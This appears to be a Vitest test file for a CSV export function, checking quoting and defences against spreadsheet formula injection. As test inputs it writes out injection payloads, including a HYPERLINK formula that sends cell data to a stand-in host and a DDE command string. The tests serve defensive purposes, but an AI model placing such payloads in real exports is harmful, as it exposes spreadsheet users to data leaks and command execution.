import { describe, expect, it } from 'vitest'
import { toCsv } from './csv'

describe('toCsv', () => {
  it('writes a header and one line per row, quoting what needs it', () => {
    const text = toCsv(
      ['name', 'id', 'files'],
      [
        { name: 'Ring – "B12", west', id: 7, files: 'a.nc;b.zip' },
        { name: 'plain', id: 8, files: null },
      ],
    )
    expect(text).toBe('name,id,files\r\n"Ring – ""B12"", west",7,a.nc;b.zip\r\nplain,8,\r\n')
  })
})

describe('toCsv against formulas (CSV injection)', () => {
  const cell = (value: string | number | null) => toCsv(['c'], [{ c: value }]).split('\r\n')[1]

  it.each([
    [
      '=HYPERLINK("http://x.example/?"&A1,"Open")',
      `"'=HYPERLINK(""http://x.example/?""&A1,""Open"")"`,
    ],
    ["+cmd|' /C calc'!A0", `"'+cmd|' /C calc'!A0"`],
    ['-2+3+cmd|x', `"'-2+3+cmd|x"`],
    ['@SUM(1+1)', `"'@SUM(1+1)"`],
    ['\t=1+1', `"'\t=1+1"`],
    ['\r=1+1', `"'\r=1+1"`],
  ])('writes %j as text, not a formula', (text, written) => {
    expect(cell(text)).toBe(written)
  })

  it.each([
    [-1.5, '-1.5'],
    ['-1.5', '-1.5'],
    ['+2e-3', '+2e-3'],
    ['-.25', '-.25'],
    [-0, '0'],
    ['a=b', 'a=b'],
    ['Ring - west', 'Ring - west'],
  ])('leaves %j as it is', (value, written) => {
    expect(cell(value)).toBe(written)
  })

  it('guards the header cells too', () => {
    expect(toCsv(['=1+1'], []).trimEnd()).toBe(`"'=1+1"`)
  })
})
